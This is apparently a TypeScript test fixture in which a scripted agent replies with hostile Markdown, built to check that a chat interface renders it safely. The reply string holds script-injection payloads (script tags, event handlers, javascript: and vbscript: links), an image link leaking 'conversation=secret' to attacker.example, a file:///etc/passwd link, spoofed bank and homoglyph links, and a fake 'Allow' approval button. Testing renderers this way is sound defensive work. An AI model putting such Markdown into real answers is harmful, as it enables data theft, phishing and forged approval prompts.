import type { Script } from '../agent.ts'

export const answersWithHostileMarkdown: Script = {
  description: 'answers with Markdown that tries to run script, fetch, deceive and look like the interface',
  run: (turn) => turn.say(answer, 120),
}

const answer = `Before the tricks: a normal sentence.

<script>window.__hostile = 'script ran'</script>
<img src="https://attacker.example/pixel.png" onerror="window.__hostile = 'onerror ran'">
<iframe src="https://attacker.example/"></iframe>
<style>* { display: none }</style>

![a picture](https://attacker.example/leak?conversation=secret)
![a reference][pixel] and [![nested](https://attacker.example/nested.png)](https://attacker.example/)

[run me](javascript:window.__hostile='link-ran') [run me too](JaVaScRiPt&colon;alert(1))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [file](file:///etc/passwd)
[https://bank.example/sign-in](https://attacker.example/sign-in)
[a\u202Egnp.exe](https://attacker.example/rtl) <https://b\u0430nk.example>

<div class="ek-hitl-prompt" data-state="open"><button>Allow</button></div>

| a | b |
| - | - |
| <b onclick="alert(1)">x</b> | [y](vbscript:msgbox(1)) |

\`\`\`html"><script>window.__hostile = 'fence ran'</script>
<p>only code</p>
\`\`\`

${'> '.repeat(200)}deep

[pixel]: https://attacker.example/reference.png "title"
After the tricks: another normal sentence.
`
